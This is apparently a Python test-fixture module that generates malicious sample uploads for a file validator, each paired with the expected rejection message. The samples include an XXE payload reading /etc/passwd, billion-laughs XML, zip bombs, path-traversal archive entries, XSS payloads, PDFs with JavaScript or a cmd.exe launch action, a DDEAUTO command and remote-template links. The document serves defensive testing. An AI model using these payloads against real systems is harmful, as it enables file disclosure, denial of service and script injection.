"""Files that nobody may open as they are: each with what the person who sends it reads. Made here, from nothing else.

None of them does anything: the antivirus test string is the agreed one, and what unpacks to much does so to 50 MB.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests import stages

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
NEITHER, DAMAGED, SCRIPT = (
    "What is inside it is none of these",
    "is damaged, or is not what it seems",
    "holds a script",
)
INSIDE, NETWORK, MACROS = "holds another file inside", "over the network", "holds macros"
_RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
_ENTITIES = "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>"
_LAUGHS = (
    "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + step)} '{f'&{chr(97 + step)};' * 10}'>" for step in range(8))
    + "]><l>&i;</l>"
)


def a_pdf(change: str = "") -> bytes:
    """A PDF of one page as programs write them, its objects compressed; ``change`` says what is wrong with it."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(595, 842))
    encryption: pikepdf.Encryption | bool = False
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    if change == "script":
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    elif change == "script on a page":
        page.obj.AA = Dictionary(O=script)
    elif change == "starts a program":
        made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    elif change == "file inside":
        made.attachments["evil.exe"] = b"MZ"
    elif change == "form of one program":
        made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))
    elif change == "password":
        encryption = pikepdf.Encryption(owner="a", user="b")
    elif change == "owner's password":
        encryption = pikepdf.Encryption(owner="a", user="")
    written = io.BytesIO()
    made.save(written, encryption=encryption, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def xlsx(*more: tuple[str, str | bytes]) -> bytes:
    """An Excel workbook with these further parts."""
    types = "<Types><x>application/vnd.x-spreadsheetml.sheet.main+xml</x></Types>"
    return stages.zipped(("[Content_Types].xml", types), ("xl/workbook.xml", "<workbook/>"), *more)


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    points = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def _nested() -> bytes:
    inner = stages.zipped(("a.bin", b"\0" * 1_000_000))
    for _ in range(4):
        inner = stages.zipped(*((f"{number}.zip", inner) for number in range(10)))
    return inner


def _picture(form: str) -> bytes:
    drawn = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(drawn, form)
    return drawn.getvalue()


def _relation(kind: str, target: str) -> tuple[str, str]:
    return "word/_rels/document.xml.rels", _RELATION.format(kind=kind, target=target)


def samples() -> Iterator[tuple[str, bytes, str]]:
    """The name of each, its bytes, words of its refusal."""
    yield "empty.pdf", b"", "The file is empty"
    yield "eicar.com.txt", EICAR, NEITHER
    yield "program.jpg", b"MZ" + b"\0" * 200, NEITHER
    yield "page.pdf", b"<html><script>alert(document.domain)</script></html>", NEITHER
    yield "script.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NEITHER
    yield "polyglot.gif", b"GIF89a/*<svg/onload=alert(1)>*/=1;", NEITHER
    yield "entities.xml", _ENTITIES.encode(), NEITHER
    yield "laughs.xml", _LAUGHS.encode(), NEITHER
    yield "utf16.csv", "\ufefflog_no,org\n2022/1,RKB\n".encode("utf-16"), NEITHER
    yield "latin1.csv", "log_no,description\n2022/1,Patient’s café\n".encode("cp1252"), NEITHER
    yield "nul.csv", b"log_no,description\n2022/1,a\0b\n", NEITHER
    yield "long.csv", b"log_no,description\n2022/1," + b"a" * 10_000_000, NEITHER
    yield "bomb.zip", stages.zipped(("zeros.bin", b"\0" * 50_000_000)), NEITHER
    yield "nested.zip", _nested(), NEITHER
    yield "climbing.zip", stages.zipped(("../../tmp/evil.txt", "x"), ("/etc/evil.txt", "x")), NEITHER
    yield "entities.docx", stages.docx(body=_ENTITIES), DAMAGED
    yield "entities-in-utf-16.docx", stages.docx(("word/styles.xml", _ENTITIES.encode("utf-16"))), DAMAGED
    yield "laughs.docx", stages.docx(("word/settings.xml", _LAUGHS)), DAMAGED
    yield "laughs.xlsx", xlsx(("xl/sharedStrings.xml", _LAUGHS)), DAMAGED
    yield "not-xml.docx", stages.docx(("word/styles.xml", "<w:styles>")), DAMAGED
    yield "climbing.docx", stages.docx(("../../evil.txt", "x")), DAMAGED
    yield "macros.docx", stages.docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0fake")), MACROS
    yield "macro-sheet.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), MACROS
    yield (
        "template.docx",
        stages.docx(_relation("attachedTemplate", "http://example.invalid/t.dotm")),
        NETWORK,
    )
    yield "share.docx", stages.docx(_relation("attachedTemplate", "\\\\example.invalid\\t.dotm")), NETWORK
    yield "beacon.docx", stages.docx(_relation("image", "https://example.invalid/seen.png")), NETWORK
    yield "ole.docx", stages.docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0x")), INSIDE
    yield "zip-inside.docx", stages.docx(("word/media/image1.png", stages.zipped(("a", "b")))), INSIDE
    yield "activex.docx", stages.docx(("word/activeX/activeX1.xml", "<x/>")), INSIDE
    order = '<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>'
    yield "order.docx", stages.docx(body=order), "starts another program"
    yield "bomb.docx", stages.docx(("word/media/zeros.bin", b"\0" * 50_000_000)), "unpacks to far more"
    yield "script.pdf", a_pdf("script"), SCRIPT
    yield "script-on-a-page.pdf", a_pdf("script on a page"), SCRIPT
    yield "starts.pdf", a_pdf("starts a program"), "starts another program"
    yield "file-inside.pdf", a_pdf("file inside"), INSIDE
    yield "form.pdf", a_pdf("form of one program"), "a form that only one program can show"
    yield "password.pdf", a_pdf("password"), "has a password or is protected"
    yield "owners-password.pdf", a_pdf("owner's password"), "has a password or is protected"
    yield "nothing.pdf", b"%PDF-1.4 nothing of the kind", DAMAGED
    yield "page-and-pdf.pdf", a_pdf()[:9] + b"\n%<script>alert(1)</script>\n" + a_pdf()[9:], DAMAGED
    yield "zip-and-pdf.pdf", a_pdf() + stages.zipped(("a.html", "<script>")), DAMAGED
    yield "zip-and-picture.png", _picture("PNG") + stages.zipped(("a.html", "x")), DAMAGED
    yield "half.jpg", _picture("JPEG")[:200], "damaged or was cut off"
    yield "huge.png", _png(60_000, 60_000), "more points than a page can show"
    yield "picture.gif", _picture("GIF"), NEITHER
    yield "picture.bmp", _picture("BMP"), NEITHER
